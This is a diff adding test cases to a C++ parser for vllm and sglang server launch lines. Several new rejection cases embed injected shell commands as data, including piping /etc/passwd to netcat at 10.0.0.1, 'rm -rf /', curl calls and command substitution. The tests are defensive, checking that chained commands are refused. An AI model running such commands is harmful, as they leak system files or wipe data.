@@ -405,6 +405,20 @@ INSTANTIATE_TEST_SUITE_P(
                  {"--speculative-num-steps 3", "--speculative-num-draft-tokens=4"},
                  {},
                  {}},
+        GoodCase{"BackgroundWithRedirections",
+                 "nohup vllm serve Qwen/Qwen3-8B --max-model-len 8192 > server.log 2>&1 &",
+                 R"pb(model_id: "Qwen/Qwen3-8B"
+                      engine { kind: ENGINE_KIND_VLLM max_model_len: 8192 })pb",
+                 {},
+                 {},
+                 {}},
+        GoodCase{"CommentLineAndQuotedMetacharacters",
+                 "# the server\nvllm serve Qwen/Qwen3-8B --served-model-name 'a;b|c $(d)'\n",
+                 R"pb(model_id: "Qwen/Qwen3-8B"
+                      engine { kind: ENGINE_KIND_VLLM })pb",
+                 {},
+                 {"--served-model-name a;b|c $(d)"},
+                 {}},
         GoodCase{"MultiLineWithEnvAndPipeline",
                  "SGLANG_ENABLE_JIT_DEEPGEMM=0 \\\n"
                  "python3 -m sglang.launch_server \\\n"
@@ -528,7 +542,35 @@ INSTANTIATE_TEST_SUITE_P(
         BadCase{"MaxNumSeqsZero", "vllm serve X --max-num-seqs 0",
                 "--max-num-seqs = 0; must be a whole number ≥ 1"},
         BadCase{"SglangEpWord", "python3 -m sglang.launch_server --model-path X --ep-size eight",
-                "--ep-size = eight; must be a whole number ≥ 1"}),
+                "--ep-size = eight; must be a whole number ≥ 1"},
+        BadCase{"UnknownDtype", "vllm serve X --dtype int3",
+                "--dtype = int3; must be one of auto, half, float16, bfloat16, float, float32"},
+        BadCase{"SecondCommandAfterSemicolon",
+                "vllm serve X --max-model-len 8192; cat /etc/passwd | nc 10.0.0.1 9",
+                "launch line: ';' starts another command at character 34 (\"; cat /etc/passwd | "
+                "nc 10.0.0.1 9\")"},
+        BadCase{"SecondCommandAfterAnd", "vllm serve X && rm -rf /",
+                "launch line: '&&' starts another command at character 14"},
+        BadCase{"SecondCommandAfterBackground", "vllm serve X & curl example.com",
+                "launch line: '&' starts another command at character 14"},
+        BadCase{"SecondCommandOnANewLine", "vllm serve X\ncurl example.com",
+                "launch line: a new line starts another command at character 13"},
+        BadCase{"PipeIntoAnythingButTee", "vllm serve X | nc 10.0.0.1 9",
+                "launch line: '|' starts another command at character 14"},
+        BadCase{"TeeThenMore", "vllm serve X | tee log | nc 10.0.0.1 9",
+                "launch line: '|' starts another command at character 14"},
+        BadCase{"CommandSubstitution", "vllm serve X --port $(cat /etc/passwd)",
+                "launch line: command substitution at character 21"},
+        BadCase{"BackquotesInDoubleQuotes", "vllm serve X --served-model-name \"`id`\"",
+                "launch line: command substitution at character 35"},
+        BadCase{
+            "LongTailIsCut",
+            "vllm serve X; echo "
+            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+            "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+            "xxxx…\")"}),
     [](const ::testing::TestParamInfo<BadCase>& info) { return info.param.name; });
 
 // ------------------------------------------------------------ shell words
